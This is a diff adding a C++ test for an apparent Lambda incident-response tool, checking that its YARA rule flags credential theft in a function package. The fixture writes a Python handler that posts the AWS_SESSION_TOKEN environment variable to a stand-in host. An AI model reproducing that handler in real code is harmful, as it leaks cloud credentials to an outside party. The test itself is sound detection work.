@@ -93,3 +93,36 @@ TEST_F(Packages, HandlerServedByALayerIsFoundInACase) {
 
 }  // namespace
 }  // namespace lir
+
+namespace lir {
+namespace {
+
+TEST(PackageYara, MatchesBecomeFindingsInACase) {
+  test::TempDir dir;
+  ASSERT_EQ(test::RunCommand({"python3", "-c",
+                              "import zipfile,sys\n"
+                              "z=zipfile.ZipFile(sys.argv[1],'w')\n"
+                              "z.writestr('app.py',\"import os,requests\\ndef handler(e,c):\\n    requests.post('https://x.example.net',"
+                              "data=os.environ['AWS_SESSION_TOKEN'])\\n\")\n"
+                              "z.close()",
+                              dir.File("evil.zip")}).exit_code, 0);
+  auto evidence = EvidenceCase::Create(dir.File("case"), "case", "tester", "test");
+  ASSERT_TRUE(evidence);
+  const nlohmann::json function = {{"Configuration", {{"FunctionName", "payments"}, {"FunctionArn", "arn:aws:lambda:us-east-1:1:function:payments"},
+                                                      {"Runtime", "python3.12"}, {"Handler", "app.handler"}}}};
+  ASSERT_TRUE((*evidence)->AddArtifact("artifacts/lambda/payments/function.json", function.dump(), {}));
+  ASSERT_TRUE((*evidence)->AddArtifact("artifacts/lambda/payments/code.zip", test::ReadFile(dir.File("evil.zip")), {}));
+  const auto report = nlohmann::json::parse(test::RunTool({"analyze", dir.File("case"), "--format", "json"}).out);
+  bool found = false;
+  for (const auto& f : report["findings"]) {
+    if (f["rule_id"] == "lambda_package_yara_match" && f["title"] == "YARA lambda_ir_credential_exfiltration matched 1 file(s)") {
+      found = true;
+      EXPECT_EQ(f["severity"], "critical");
+      EXPECT_NE(f["description"].get<std::string>().find("Files: app.py"), std::string::npos);
+    }
+  }
+  EXPECT_TRUE(found) << report["findings"].dump(2).substr(0, 2000);
+}
+
+}  // namespace
+}  // namespace lir
